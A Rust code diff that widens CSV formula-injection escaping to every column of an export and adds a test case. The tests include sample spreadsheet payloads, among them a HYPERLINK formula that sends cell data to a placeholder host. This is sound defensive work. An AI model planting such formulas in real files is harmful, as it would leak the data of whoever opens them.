@@ -158,19 +158,31 @@ pub fn to_csv(rows: &[Row]) -> Result<String, String> {
 /// A row whose free-text cells cannot run as spreadsheet formulas.
 ///
 /// Any member writes comment text, reasons, titles and their own display
-/// name; a spreadsheet that opens the table runs a cell starting with `=`,
+/// name (and a modified client could write any id); a spreadsheet that opens the table runs a cell starting with `=`,
 /// `+`, `-`, `@`, a tab or a carriage return as a formula (which can fetch
 /// a web address carrying the sheet's data). Such a cell gets a leading
 /// `'`, which spreadsheets read as "this is text" (the OWASP advice). The
 /// JSON export and `community export-doc` keep the exact text.
 fn spreadsheet_safe(row: &Row) -> Row {
     let mut row = row.clone();
+    // Every column: ids and names are map keys and values that a modified
+    // client could spell as a formula too.
     for cell in [
+        &mut row.response,
+        &mut row.thread,
         &mut row.thread_title,
+        &mut row.draft,
         &mut row.draft_title,
+        &mut row.id,
+        &mut row.reply_to,
+        &mut row.member_id,
         &mut row.member,
+        &mut row.stance,
+        &mut row.stale,
         &mut row.text,
+        &mut row.at,
         &mut row.recorded_by,
+        &mut row.confirmed,
         &mut row.correction,
     ] {
         if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
@@ -239,13 +251,17 @@ mod tests {
         let rows = [
             row("=HYPERLINK(\"http://x/?\"&A1)", "+Ana"),
             row("-2+3", "@bo"),
+            Row {
+                reply_to: "=cmd".into(),
+                ..row("x", "Bo")
+            },
             row("\tx", "Cy"),
             row("Plain, with = inside", "Di"),
         ];
         let csv = to_csv(&rows).unwrap_or_else(|e| panic!("{e}"));
         let mut reader = csv::Reader::from_reader(csv.as_bytes());
         let read: Vec<csv::StringRecord> = reader.records().filter_map(Result::ok).collect();
-        assert_eq!(read.len(), 4);
+        assert_eq!(read.len(), 5);
         let cell = |r: usize, c: &str| {
             let i = COLUMNS.iter().position(|x| *x == c).unwrap_or(0);
             read[r].get(i).unwrap_or("").to_string()
@@ -256,9 +272,10 @@ mod tests {
         assert_eq!(cell(0, "correction"), "'@SUM(A1)");
         assert_eq!(cell(1, "text"), "'-2+3");
         assert_eq!(cell(1, "member"), "'@bo");
-        assert_eq!(cell(2, "text"), "'\tx");
-        assert_eq!(cell(3, "text"), "Plain, with = inside");
-        assert_eq!(cell(3, "member"), "Di");
+        assert_eq!(cell(2, "reply_to"), "'=cmd");
+        assert_eq!(cell(3, "text"), "'\tx");
+        assert_eq!(cell(4, "text"), "Plain, with = inside");
+        assert_eq!(cell(4, "member"), "Di");
         // Ids, times and counts are never touched.
         assert_eq!(cell(0, "at"), "2026-11-29T10:00:00Z");
     }
